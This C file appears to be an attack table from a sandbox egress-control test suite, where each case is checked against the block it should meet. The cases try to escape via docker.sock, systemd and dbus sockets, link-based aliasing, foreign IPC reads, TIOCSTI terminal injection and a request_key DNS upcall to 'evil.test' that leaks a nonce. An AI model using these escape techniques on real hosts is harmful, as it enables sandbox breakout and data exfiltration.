/* SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause */
/* Servers of others on this host, which would carry bytes out or run what they are told. */
#include "attack.h"

#include <errno.h>
#include <fcntl.h>
#include <linux/io_uring.h>
#include <netinet/in.h>
#include <pty.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ipc.h>
#include <sys/msg.h>
#include <sys/sem.h>
#include <sys/shm.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

struct server {
	const char *name; /* '@': abstract */
	int type;
};

/* ---- unix sockets -------------------------------------------------------------------- */

static int connect_to(const void *arg)
{
	const struct server *s = arg;
	struct sockaddr_un a;
	socklen_t len = unix_name(s->name, &a);
	int fd = open_socket(AF_UNIX, s->type, 0);

	if (fd < 0)
		return fd;
	return connect(fd, (void *)&a, len) ? -errno : send_nonce(fd, NULL);
}

static int send_to(const void *arg)
{
	const struct server *s = arg;
	struct sockaddr_un a;
	socklen_t len = unix_name(s->name, &a);
	int fd = open_socket(AF_UNIX, s->type, 0);

	return fd < 0 ? fd : result(sendto(fd, world.nonce, NONCE, 0, (void *)&a, len));
}

static int send_message(const struct server *s, bool ring, bool many)
{
	struct sockaddr_un a;
	socklen_t len = unix_name(s->name, &a);
	struct iovec iov = { world.nonce, NONCE };
	struct mmsghdr m = { .msg_hdr = { .msg_name = &a, .msg_namelen = len, .msg_iov = &iov,
					  .msg_iovlen = 1 } };
	int fd = open_socket(AF_UNIX, s->type, 0);
	struct io_uring_sqe sqe = { .opcode = IORING_OP_SENDMSG, .fd = fd,
				    .addr = (uintptr_t)&m.msg_hdr, .len = 1 };

	if (fd < 0)
		return fd;
	if (ring)
		return uring(&sqe, 0);
	return many ? result(sendmmsg(fd, &m, 1, 0)) : result(sendmsg(fd, &m.msg_hdr, 0));
}

static int send_by_sendmsg(const void *arg)
{
	return send_message(arg, false, false);
}

static int send_by_sendmmsg(const void *arg)
{
	return send_message(arg, false, true);
}

static int send_by_uring(const void *arg)
{
	return send_message(arg, true, false);
}

static int connect_uring(const void *arg)
{
	const struct server *s = arg;
	struct sockaddr_un a;
	socklen_t len = unix_name(s->name, &a);
	int fd = open_socket(AF_UNIX, s->type, 0), r;
	struct io_uring_sqe sqe = { .opcode = IORING_OP_CONNECT, .fd = fd, .addr = (uintptr_t)&a,
				    .off = len };

	if (fd < 0)
		return fd;
	r = uring(&sqe, 0);
	return r < 0 ? r : send_nonce(fd, NULL);
}

static int connect_int80(const void *arg)
{
	const struct server *s = arg;
	struct sockaddr_un a;
	socklen_t len = unix_name(s->name, &a);
	int fd = open_socket(AF_UNIX, s->type, 0), r = need_int80();

	if (r || fd < 0)
		return r ? r : fd;
	r = int80(362 /* connect */, fd, low(&a, len), len, 0, 0);
	return r < 0 ? r : send_nonce(fd, NULL);
}

/* ---- other names of a socket ------------------------------------------------------------ */

#define ALLOWED WORK "/allowed.sock" /* which the policy lists */
#define DOCKER RUN "/docker.sock"

static const struct server aliased = { ALLOWED, SOCK_STREAM };

static int by_symlink(const void *unused)
{
	(void)unused;
	return symlink(DOCKER, ALLOWED) ? -errno : connect_to(&aliased);
}

static int by_hard_link(const void *unused)
{
	(void)unused;
	return link(DOCKER, ALLOWED) ? -errno : connect_to(&aliased);
}

/* In a directory that both the sandbox and the server's owner may write to. */
static int by_rename(const void *unused)
{
	(void)unused;
	return rename(WORK "/other.sock", ALLOWED) ? -errno : connect_to(&aliased);
}

static int by_exchange(const void *unused)
{
	int fd = open(ALLOWED, O_CREAT | O_WRONLY | O_CLOEXEC, 0666);

	(void)unused;
	if (fd < 0 || renameat2(AT_FDCWD, WORK "/other.sock", AT_FDCWD, ALLOWED, RENAME_EXCHANGE))
		return -errno;
	return connect_to(&aliased);
}

static int by_parent(const void *unused)
{
	(void)unused;
	return symlink("../run/docker.sock", ALLOWED) ? -errno : connect_to(&aliased);
}

/* ---- two that talk behind the rules' back -------------------------------------------------- */

#define KEY_SHM 0x61747401
#define KEY_MSG 0x61747402
#define KEY_SEM 0x61747403

static int shm_read(const void *unused)
{
	int id = shmget(KEY_SHM, 64, 0);
	const char *p;

	(void)unused;
	if (id < 0)
		return -errno;
	p = shmat(id, NULL, SHM_RDONLY);
	if (p == (void *)-1)
		return -errno;
	loot(p, 64);
	return 0;
}

static int msg_read(const void *unused)
{
	struct {
		long type;
		char text[64];
	} m;
	int id = msgget(KEY_MSG, 0);

	(void)unused;
	if (id < 0 || msgrcv(id, &m, sizeof(m.text), 0, IPC_NOWAIT | MSG_NOERROR) < 0)
		return -errno;
	loot(m.text, sizeof(m.text));
	return 0;
}

static int sem_read(const void *unused)
{
	int id = semget(KEY_SEM, 1, 0);

	(void)unused;
	return id < 0 ? -errno : result(semctl(id, 0, GETVAL));
}

/* ---- terminals -------------------------------------------------------------------------- */

static int type_on_other(const void *unused)
{
	int fd = open(D "/terminal", O_RDWR | O_NOCTTY | O_CLOEXEC);

	(void)unused;
	return fd < 0 ? -errno : result(write(fd, world.hex, strlen(world.hex)));
}

static int own_terminal(void)
{
	int master, slave;

	if (openpty(&master, &slave, NULL, NULL, NULL) || setsid() < 0 ||
	    ioctl(slave, TIOCSCTTY, 0))
		return -errno;
	return slave;
}

static int push(const void *unused)
{
	int fd = own_terminal();

	(void)unused;
	return fd < 0 ? fd : result(ioctl(fd, TIOCSTI, "x"));
}

static int push_int80(const void *unused)
{
	int fd = own_terminal(), r = need_int80();

	(void)unused;
	if (r || fd < 0)
		return r ? r : fd;
	return int80(54 /* ioctl */, fd, TIOCSTI, low("x", 1), 0, 0);
}

static int take_console(const void *unused)
{
	int fd = own_terminal();

	(void)unused;
	return fd < 0 ? fd : result(ioctl(fd, TIOCCONS, 0));
}

/* ---- others that do what they are asked ------------------------------------------------------ */

static int ask_kernel(const void *unused)
{
	char name[64];
	long key;

	(void)unused;
	snprintf(name, sizeof(name), "%s.evil.test", world.hex);
	key = syscall(SYS_request_key, "dns_resolver", name, "", -3 /* the session's */);
	/* whoever resolves it has been started by then */
	return key < 0 && (errno == ENOKEY || errno == EKEYREJECTED) ? 0 : result(key);
}

static int egressctl_inside(const void *unused)
{
	char command[512];
	const char *build = getenv("EGRESSCTL_BUILD");

	(void)unused;
	snprintf(command, sizeof(command), "%s/egressctl run -p " D "/bin/main.yaml -- /bin/true",
		 build ? build : D "/bin");
	return tool(command);
}

#define AT(n, t) &(const struct server){ n, t }
#define UNIX(n, f, s) { .name = n, .run = f, .arg = s, .judge = "host", .err = "EPERM", \
			.event = "unix/rule" }
#define LOOP(n, f, a) { .name = n, .run = f, .arg = &(const struct dest){ a, RELAY }, \
			.judge = "host", .err = "EPERM", \
			.event = "connect/loopback send/loopback" }
#define IPC(n, f, j) { .name = n, .run = f, .judge = j, .err = "EACCES EPERM", \
		       .event = "ipc/foreign" }

const struct attack attacks_relay[] = {
	UNIX("A48:stream", connect_to, AT(DOCKER, SOCK_STREAM)),
	UNIX("A48:seqpacket", connect_to, AT(RUN "/seqpacket.sock", SOCK_SEQPACKET)),
	UNIX("A48:datagram", send_to, AT(RUN "/datagram.sock", SOCK_DGRAM)),
	UNIX("A48:datagram-connected", connect_to, AT(RUN "/datagram.sock", SOCK_DGRAM)),
	UNIX("A48:uring", connect_uring, AT(DOCKER, SOCK_STREAM)),
	UNIX("A48:int80", connect_int80, AT(DOCKER, SOCK_STREAM)),

	UNIX("A49:stream", connect_to, AT("@attacks-relay", SOCK_STREAM)),
	UNIX("A49:seqpacket", connect_to, AT("@attacks-relay-seqpacket", SOCK_SEQPACKET)),
	UNIX("A49:sendto", send_to, AT("@attacks-relay-datagram", SOCK_DGRAM)),
	UNIX("A49:sendmsg", send_by_sendmsg, AT("@attacks-relay-datagram", SOCK_DGRAM)),
	UNIX("A49:sendmmsg", send_by_sendmmsg, AT("@attacks-relay-datagram", SOCK_DGRAM)),
	UNIX("A49:uring", send_by_uring, AT("@attacks-relay-datagram", SOCK_DGRAM)),
	UNIX("A49:path-sendmmsg", send_by_sendmmsg, AT(RUN "/datagram.sock", SOCK_DGRAM)),
	UNIX("A49:path-uring", send_by_uring, AT(RUN "/datagram.sock", SOCK_DGRAM)),

	UNIX("A50:symlink", by_symlink, NULL),
	{ .name = "A50:hard-link", .run = by_hard_link, .judge = "host", .err = "EPERM EXDEV",
	  .event = "unix/rule link/gain link/rule" },
	{ .name = "A50:rename", .run = by_rename, .judge = "host", .err = "EPERM EXDEV",
	  .event = "unix/rule rename/gain rename/rule" },
	{ .name = "A50:exchange", .run = by_exchange, .judge = "host", .err = "EPERM EXDEV",
	  .event = "unix/rule rename/gain rename/rule" },
	UNIX("A50:relative", by_parent, NULL),

	LOOP("A51:tcp", tcp_to, "127.0.0.1"),
	LOOP("A51:tcp6", tcp_to, "::1"),
	LOOP("A51:udp", udp_to, "127.0.0.1"),
	LOOP("A51:udp6", udp_to, "::1"),

	IPC("A52:shm", shm_read, "loot"),
	IPC("A52:msg", msg_read, "loot"),
	IPC("A52:sem", sem_read, "claim"),

	{ .name = "A53:write", .run = type_on_other, .judge = "host", .err = "EACCES",
	  .event = "open/foreign" },
	{ .name = "A53:tiocsti", .run = push, .judge = "claim", .err = "EACCES",
	  .event = "ioctl/guard" },
	{ .name = "A53:tiocsti-int80", .run = push_int80, .judge = "claim", .err = "EACCES",
	  .event = "ioctl/guard" },
	{ .name = "A53:tioccons", .run = take_console, .by = BY_ROOT, .judge = "claim",
	  .err = "EACCES", .event = "ioctl/guard" },

	{ .name = "A54:request-key", .run = ask_kernel, .judge = "upcall", .err = "EPERM EACCES",
	  .event = "key/guard key/foreign" },

	UNIX("A67:varlink", connect_to, AT("/run/systemd/resolve/io.systemd.Resolve", SOCK_STREAM)),
	UNIX("A67:nscd", connect_to, AT("/run/nscd/socket", SOCK_STREAM)),
	UNIX("A67:avahi", connect_to, AT("/run/avahi-daemon/socket", SOCK_STREAM)),

	/* "run this": a task's manager, asked by socket and by port */
	UNIX("C08:systemd", connect_to, AT("/run/systemd/private", SOCK_STREAM)),
	UNIX("C08:bus", connect_to, AT("/run/dbus/system_bus_socket", SOCK_STREAM)),
	UNIX("C08:containerd", connect_to, AT("@/containerd-shim/attacks.sock", SOCK_STREAM)),
	LOOP("C08:port", tcp_to, "127.0.0.1"),

	{ .name = "C18:control", .run = connect_to,
	  .arg = AT("/run/egressctl/control.sock", SOCK_SEQPACKET), .judge = "claim",
	  .err = "EPERM", .event = "unix/rule unix/guard" },
	/* it knows that it is inside, and does not even ask */
	{ .name = "C18:nested", .run = egressctl_inside, .judge = "claim", .err = "EIO EPERM" },
	{},
};
